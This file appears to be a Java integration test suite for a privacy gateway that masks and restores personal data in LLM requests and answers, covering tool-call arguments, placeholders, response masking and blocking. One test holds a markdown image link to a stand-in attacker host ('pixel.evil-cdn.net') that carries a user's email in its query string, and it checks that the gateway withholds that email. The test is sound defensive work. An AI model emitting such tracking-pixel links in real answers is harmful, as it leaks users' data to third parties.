package io.mantle.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.Callable;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What a tenant's policy says of answers, put over the admin API, holds for the next answers:
 * through Envoy, with no restart, whole and streamed.
 */
@ExtendWith(SharedStack.class)
final class AnswerPolicyIT {
  private static final Duration IN_FORCE_MAX = Duration.ofSeconds(1);
  private static final Duration TENANT_MADE_MAX = Duration.ofSeconds(5);
  private static final String NAME = "Maria Garcia";
  private static final String MAIL = "maria.garcia@acme-mail.com";
  private static final String PROMPT =
      "Please greet " + NAME + " from me, and write to " + MAIL + " as well.";
  private static final Pattern MASKED =
      Pattern.compile("Please greet (?<name>.+) from me, and write to (?<mail>.+) as well\\.");

  private final GatewayStack gateway;
  private String tenant = "";
  private String key = "";

  AnswerPolicyIT(GatewayStack gateway) {
    this.gateway = gateway;
  }

  @BeforeEach
  void makeTenant(TestInfo test) throws Exception {
    String name = test.getTestMethod().orElseThrow().getName() + test.getDisplayName();
    tenant = "answers-" + Integer.toHexString(name.hashCode());
    key = TestTenant.create(gateway, tenant, gateway.provider().baseUrl().toString());
    Until.holds(TENANT_MADE_MAX, "the tenant's routes", () -> said("hello", false).equals("hello"));
  }

  @AfterEach
  void removeTenant() throws Exception {
    TestDatabase.update(gateway.database(), "DELETE FROM tenant WHERE id = ?", tenant);
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void strategy_switchedOffForAType_leavesThatSpellingOnly(boolean streamed) throws Exception {
    double before = counted("mantle_restorations_total{strategy=\"CASE\"}");
    assertThat(said("{NAME} wrote, {name}.", streamed))
        .isEqualTo("MARIA GARCIA wrote, " + NAME + ".");
    Until.holds(
        IN_FORCE_MAX,
        "the strategy counts itself",
        () -> counted("mantle_restorations_total{strategy=\"CASE\"}") > before);

    put("{\"restore\": {\"PERSON\": {\"case\": false}}}");
    inForce("switched off", () -> !said("{NAME} wrote.", streamed).contains("MARIA GARCIA"));
    assertThat(said("{name} wrote from {MAIL}.", streamed))
        .isEqualToIgnoringCase(NAME + " wrote from " + MAIL + ".")
        .startsWith(NAME);
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void link_toAHostThatThePromptDoesNotName_getsNoValueUnlessAllowed(boolean streamed)
      throws Exception {
    String link = "![{name}](https://pixel.evil-cdn.net/c?to={mail}) for {mail}";
    double before = counted("mantle_links_withheld_total");

    String withheld = said(link, streamed);
    assertThat(withheld)
        .startsWith("![" + NAME + "](https://pixel.evil-cdn.net/c?to=")
        .endsWith(") for " + MAIL)
        .doesNotContain("to=" + MAIL);
    Until.holds(
        IN_FORCE_MAX,
        "the link is counted",
        () -> counted("mantle_links_withheld_total") == before + 1);
    assertThat(audited("link_withheld"))
        .hasSize(1)
        .allMatch(line -> line.contains("values=1 types={EMAIL=1}"))
        .noneMatch(line -> line.contains("maria") || line.contains("evil-cdn"));

    put("{\"link_hosts\": [\"*.evil-cdn.net\"]}");
    inForce("host allowed", () -> said(link, streamed).contains("to=" + MAIL));
    assertThat(said("https://evil-cdn.net/?to={mail}", streamed)).doesNotContain(MAIL);
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void toolArguments_areRestoredForDeclaredToolsThatTheTenantDoesNotLeave(boolean streamed)
      throws Exception {
    assertThat(calledWith("send_mail", streamed)).isEqualTo(MAIL);
    assertThat(calledWith("undeclared", streamed)).isNotEqualTo(MAIL).contains("@");

    put("{\"tools\": {\"send_mail\": \"leave\"}}");
    inForce("tool left", () -> !calledWith("send_mail", streamed).equals(MAIL));
    assertThat(calledWith("web_search", streamed)).isEqualTo(MAIL);

    put("{\"tools\": {\"*\": \"leave\", \"send_mail\": \"restore\"}}");
    inForce("tool restored", () -> calledWith("send_mail", streamed).equals(MAIL));
    assertThat(calledWith("web_search", streamed)).isNotEqualTo(MAIL);
  }

  /** What the client is to call that tool with, of the two that it declares or another. */
  private String calledWith(String tool, boolean streamed) throws Exception {
    gateway
        .provider()
        .answers(
            (request, wire) -> {
              String arguments = filled("{\"to\":\"{mail}\"}", Chat.prompt(request.body()));
              if (!streamed) {
                ObjectNode answer = (ObjectNode) Chat.JSON.readTree(Chat.answer(""));
                call((ObjectNode) answer.at("/choices/0/message"), tool, arguments);
                wire.json(200, answer.toString());
                return;
              }
              wire.beginEvents();
              wire.event(callChunk(tool, ""));
              for (String piece : Chat.pieces(arguments, 3)) {
                wire.event(callChunk("", piece));
              }
              wire.event(Chat.lastChunk());
              wire.event("[DONE]");
              wire.end();
            });
    ObjectNode request = Chat.request(PROMPT).put("stream", streamed);
    ArrayNode tools = request.putArray("tools");
    for (String declared : List.of("send_mail", "web_search")) {
      tools.addObject().put("type", "function").putObject("function").put("name", declared);
    }
    RawClient.Answer got = gateway.chatAs(key, request.toString());
    assertThat(got.status()).isEqualTo(200);
    StringBuilder arguments = new StringBuilder();
    for (String line : streamed ? got.body().lines().toList() : List.of("data: " + got.body())) {
      if (line.startsWith("data: {")) {
        JsonNode choice = Chat.JSON.readTree(line.substring("data: ".length())).at("/choices/0");
        JsonNode said = choice.path(streamed ? "delta" : "message");
        arguments.append(said.at("/tool_calls/0/function/arguments").asText(""));
      }
    }
    return Chat.JSON.readTree(arguments.toString()).path("to").asText();
  }

  private static String callChunk(String tool, String arguments) throws Exception {
    ObjectNode chunk = (ObjectNode) Chat.JSON.readTree(Chat.chunk(""));
    call((ObjectNode) chunk.at("/choices/0/delta"), tool, arguments);
    return chunk.toString();
  }

  private static void call(ObjectNode saying, String tool, String arguments) {
    ObjectNode function =
        saying.putArray("tool_calls").addObject().put("index", 0).putObject("function");
    if (!tool.isEmpty()) {
      function.put("name", tool);
    }
    function.put("arguments", arguments);
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void placeholder_forAType_leavesInItsPlaceAndComesBack(boolean streamed) throws Exception {
    Pattern placeholder = Pattern.compile("\\[PERSON_\\d+]");
    put("{\"actions\": {\"PERSON\": \"placeholder\"}}");
    inForce("placeholders", () -> placeholder.matcher(sentFor("name", streamed)).matches());
    String first = sentFor("name", streamed);

    assertThat(said("{name}, **{name}**, {mail}.", streamed))
        .isEqualTo(NAME + ", **" + NAME + "**, " + MAIL + ".");
    assertThat(sentFor("name", streamed)).isEqualTo(first);
    assertThat(sentFor("mail", streamed)).isNotEqualTo(MAIL).contains("@");
  }

  /** What the provider is sent in place of the name or the address. */
  private String sentFor(String what, boolean streamed) throws Exception {
    assertThat(said("done", streamed)).isEqualTo("done");
    Matcher masked = MASKED.matcher(Chat.prompt(gateway.provider().next().body()));
    assertThat(masked.matches()).isTrue();
    return masked.group(what);
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void rehydrateFalse_leavesSurrogatesAsTheProviderSaidThem(boolean streamed) throws Exception {
    String left = said("{name} and {mail}", streamed, "X-Privacy-Gateway-Rehydrate: false");
    assertThat(left).contains("@").doesNotContain(NAME).doesNotContain(MAIL);
    String[] masked = {sentFor("name", streamed), sentFor("mail", streamed)};
    assertThat(left).isEqualTo(masked[0] + " and " + masked[1]);
  }

  /** No names: a part of one may be a part of the surrogate of this run. */
  private static final String OWN =
      "{name} paid with 4012 8888 8888 1881 as tk4711.box@hooli-mail.com.\n";

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void produced_byTheModel_isMaskedAndWhatThePromptSaidIsNot(boolean streamed) throws Exception {
    String answer = OWN + "Write to {mail}.";
    String own = "tk4711.box@hooli-mail.com";
    assertThat(said(answer, streamed)).contains(own);

    put("{\"responses\": \"mask\"}");
    inForce("masked", () -> !said(answer, streamed).contains(own));
    assertThat(said(answer, streamed))
        .isEqualTo(NAME + " paid with [CREDIT_CARD] as [EMAIL].\nWrite to " + MAIL + ".");
    assertThat(audited("answer_masked"))
        .isNotEmpty()
        .allMatch(line -> line.contains("types={EMAIL=1, CREDIT_CARD=1}"));
    assertThat(counted("mantle_answers_masked_total")).isPositive();
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void produced_byTheModel_endsTheAnswerWhereItIsBlocked(boolean streamed) throws Exception {
    put("{\"responses\": \"block\"}");
    inForce("blocked", () -> answered(OWN, streamed).body().contains("answer_blocked"));

    RawClient.Answer blocked = answered("fine.\n" + OWN + "more", streamed);
    assertThat(blocked.status()).isEqualTo(streamed ? 200 : 403);
    assertThat(blocked.whole()).isTrue();
    assertThat(blocked.body()).contains("answer_blocked").doesNotContain("hooli", "more");
    if (streamed) {
      assertThat(Chat.said(blocked.body())).isEqualTo("fine.\n");
      assertThat(blocked.body()).contains("event: error\ndata: {\"error\":");
    }
    assertThat(audited("answer_blocked")).isNotEmpty();
    assertThat(counted("mantle_answers_blocked_total")).isPositive();
    assertThat(said("{name}, {mail}.", streamed)).isEqualTo(NAME + ", " + MAIL + ".");
  }

  /** The lines of the audit log that speak of an event of this tenant. */
  private List<String> audited(String event) throws Exception {
    return gateway
        .everythingSaid()
        .lines()
        .filter(line -> line.contains("audit: " + event + " tenant=" + tenant + " "))
        .toList();
  }

  private double counted(String metric) throws Exception {
    return gateway
        .extProcMetrics()
        .lines()
        .filter(line -> line.startsWith(metric + " "))
        .mapToDouble(line -> Double.parseDouble(line.substring(metric.length() + 1)))
        .sum();
  }

  /**
   * What the client reads where the provider answers so: {@code {name}} and {@code {mail}} stand
   * for what it was sent in their place, in capitals where they are.
   */
  private String said(String answer, boolean streamed, String... headers) throws Exception {
    RawClient.Answer got = answered(answer, streamed, headers);
    assertThat(got.whole()).isTrue();
    if (got.status() != 200) {
      return "";
    }
    return streamed ? Chat.said(got.body()) : Chat.content(got.body());
  }

  private RawClient.Answer answered(String answer, boolean streamed, String... headers)
      throws Exception {
    gateway
        .provider()
        .answers(
            (request, wire) -> {
              String text = filled(answer, Chat.prompt(request.body()));
              if (!streamed) {
                wire.json(200, Chat.answer(text));
                return;
              }
              wire.beginEvents();
              for (String piece : Chat.pieces(text, 3)) {
                wire.event(Chat.chunk(piece));
              }
              wire.event(Chat.lastChunk());
              wire.event("[DONE]");
              wire.end();
            });
    String body = streamed ? Chat.streaming(PROMPT) : Chat.saying(PROMPT);
    return gateway.chatAs(key, body, headers);
  }

  private static String filled(String answer, String prompt) {
    Matcher masked = MASKED.matcher(prompt);
    assertThat(masked.matches()).isTrue();
    return answer
        .replace("{name}", masked.group("name"))
        .replace("{mail}", masked.group("mail"))
        .replace("{NAME}", masked.group("name").toUpperCase(Locale.ROOT))
        .replace("{MAIL}", masked.group("mail").toUpperCase(Locale.ROOT));
  }

  private void put(String policy) throws Exception {
    HttpResponse<String> answer =
        gateway.admin("PUT", "/api/v1/tenants/" + tenant + "/privacy", policy);
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
  }

  private static void inForce(String what, Callable<Boolean> check) throws Exception {
    Until.holds(IN_FORCE_MAX, what, check);
  }
}
